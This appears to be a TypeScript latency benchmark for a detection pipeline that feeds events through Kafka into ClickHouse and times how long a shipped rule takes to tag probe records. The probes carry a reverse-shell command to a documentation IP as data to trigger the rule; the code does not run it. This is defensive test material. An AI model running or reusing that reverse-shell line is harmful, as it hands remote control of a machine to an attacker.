/**
 * Events at a fixed rate, some of which a shipped rule tags: from the return of the produce call to
 * the moment a view answers for the tag.
 *
 * One reader asks for the oldest probe of either partition, since a partition's blocks are written in
 * order: its load does not grow with the latency it measures. What comes while the engine and
 * ClickHouse are cold is told apart.
 */

import { setTimeout } from 'node:timers/promises'
import type { ClickHouseClient } from '@clickhouse/client'
import { createClickHouse } from '../cli/clickhouse.ts'
import { encodeBatch } from '../test/brokers/record-batch.ts'
import { peakRssMb } from '../test/process-figures.ts'
import { PreparedSender } from './pipeline-sender.ts'
import { cpuOf, type EngineSettings, type Stack } from './pipeline-stack.ts'
import { stepsBetween, stepsOf } from './pipeline-steps.ts'

export interface Pace {
  readonly perSecond: number
  readonly seconds: number
  /** Probes of the first so many seconds count as cold. */
  readonly coldSeconds: number
}

interface Probe {
  readonly id: string
  readonly partition: number
  readonly isCold: boolean
  readonly sentMs: number
}

const tickMs = 20
/** Odd, so that probes take turns between the two partitions. */
const probeTicks = 9
const askAgainMs = 25

export async function paced(
  stack: Stack,
  lines: readonly string[],
  pace: Pace,
  settings: EngineSettings,
): Promise<readonly string[]> {
  const engine = await stack.startEngine(settings)
  const clickhouse = createClickHouse(stack.dev.config)
  const perTick = Math.max(1, Math.round((pace.perSecond * tickMs) / 1000))
  const sender = await PreparedSender.connect(stack.dev.kafka, lines, perTick)
  try {
    await sender.send(0, probeBatch('first'))
    while ((await tagged(clickhouse, ['first'])).length === 0) await setTimeout(askAgainMs)
    const probes: Probe[] = []
    const cpu = () => [engine.pid, ...stack.servers, process.pid].map((pid) => cpuOf([pid]))
    const sending = sendPaced(sender, pace, probes)
    const reading = readProbes(clickhouse, probes, sending)
    await setTimeout(pace.coldSeconds * 1000)
    const before = cpu()
    const stepsBefore = await stepsOf([engine])
    const achieved = await sending
    const after = cpu()
    const latencies = await reading
    const steps = stepsBetween(stepsBefore, await stepsOf([engine]))
    const shares = after.map((seconds, index) =>
      Math.round(((seconds - (before[index] ?? 0)) / (pace.seconds - pace.coldSeconds)) * 100),
    )
    return [
      `paced at ${pace.perSecond} events/s (sent ${achieved}/s): tag readable after ${quantiles(latencies, false)}`,
      `  in the first ${pace.coldSeconds} s ${quantiles(latencies, true)}`,
      `  after them of a core: engine ${shares[0]} %, broker and ClickHouse ${shares.slice(1, -1).join(' and ')} %, the sender ${shares.at(-1)} %; peak memory ${Math.round(peakRssMb(engine.pid))} MB`,
      `  steps of a block after them: ${steps}`,
    ]
  } finally {
    sender.close()
    await clickhouse.close()
  }
}

/** Resolves to the rate that was kept. */
async function sendPaced(
  sender: PreparedSender,
  { seconds, coldSeconds }: Pace,
  probes: Probe[],
): Promise<number> {
  const begunMs = performance.now()
  const passedMs = () => performance.now() - begunMs
  let sent = 0
  for (let tick = 0; passedMs() < seconds * 1000; tick += 1) {
    const partition = tick % 2
    sent += await sender.sendNext(partition)
    if (tick % probeTicks === 0) {
      const id = `probe-${tick}`
      await sender.send(partition, probeBatch(id))
      const isCold = passedMs() < coldSeconds * 1000
      probes.push({ id, partition, isCold, sentMs: performance.now() })
    }
    const aheadMs = (tick + 1) * tickMs - passedMs()
    if (aheadMs > 0) await setTimeout(aheadMs)
  }
  return Math.round(sent / (passedMs() / 1000))
}

interface Latency {
  readonly isCold: boolean
  readonly ms: number
}

/** Takes probes out of `probes` as they become readable; ends when none is left after `sending`. */
async function readProbes(
  clickhouse: ClickHouseClient,
  probes: Probe[],
  sending: Promise<unknown>,
): Promise<readonly Latency[]> {
  const latencies: Latency[] = []
  let isSending = true
  const ended = () => {
    isSending = false
  }
  sending.then(ended, ended)
  while (isSending || probes.length > 0) {
    const oldest = [0, 1].flatMap((of) => probes.find(({ partition }) => partition === of) ?? [])
    const found = await tagged(
      clickhouse,
      oldest.map(({ id }) => id),
    )
    for (const probe of oldest.filter(({ id }) => found.includes(id))) {
      probes.splice(probes.indexOf(probe), 1)
      latencies.push({ isCold: probe.isCold, ms: performance.now() - probe.sentMs })
    }
    await setTimeout(askAgainMs)
  }
  return latencies
}

function quantiles(latencies: readonly Latency[], isCold: boolean): string {
  const sorted = latencies
    .filter((latency) => latency.isCold === isCold)
    .map(({ ms }) => ms)
    .toSorted((a, b) => a - b)
  const quantile = (share: number) =>
    Math.round(sorted[Math.floor((sorted.length - 1) * share)] ?? 0)
  return `p50 ${quantile(0.5)} ms, p95 ${quantile(0.95)} ms, p99 ${quantile(0.99)} ms over ${sorted.length} probes`
}

/** One record that a shipped rule tags, told apart by its session. */
function probeBatch(id: string): Buffer {
  const command_text = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'
  const record = { kind: 'command', host: 'bench', session_id: id, command_text }
  return encodeBatch({ values: [JSON.stringify(record)] })
}

/**
 * The sessions among these that a view answers for. The table behind it is asked until it has them, and then the
 * view: planned anew each time, the view alone would take a quarter of a core.
 */
async function tagged(
  clickhouse: ClickHouseClient,
  sessions: readonly string[],
): Promise<readonly string[]> {
  if (sessions.length === 0) return []
  const written = await ask<{ id: string }>(
    clickhouse,
    `SELECT DISTINCT entity_id AS id FROM entity_tags
    WHERE entity_kind = 'session' AND entity_id IN {sessions:Array(String)}`,
    { sessions },
  )
  const answered: string[] = []
  for (const { id } of written) {
    const [row] = await ask<{ seen: boolean }>(
      clickhouse,
      'SELECT * FROM session_seen(session_id = {id:String}, at_s = {at:Float64})',
      { id, at: Date.now() / 1000 },
    )
    if (row?.seen === true) answered.push(id)
  }
  return answered
}

async function ask<Row>(
  clickhouse: ClickHouseClient,
  query: string,
  query_params: Readonly<Record<string, unknown>>,
): Promise<Row[]> {
  const answer = await clickhouse.query({ query, query_params, format: 'JSONEachRow' })
  return answer.json<Row>()
}
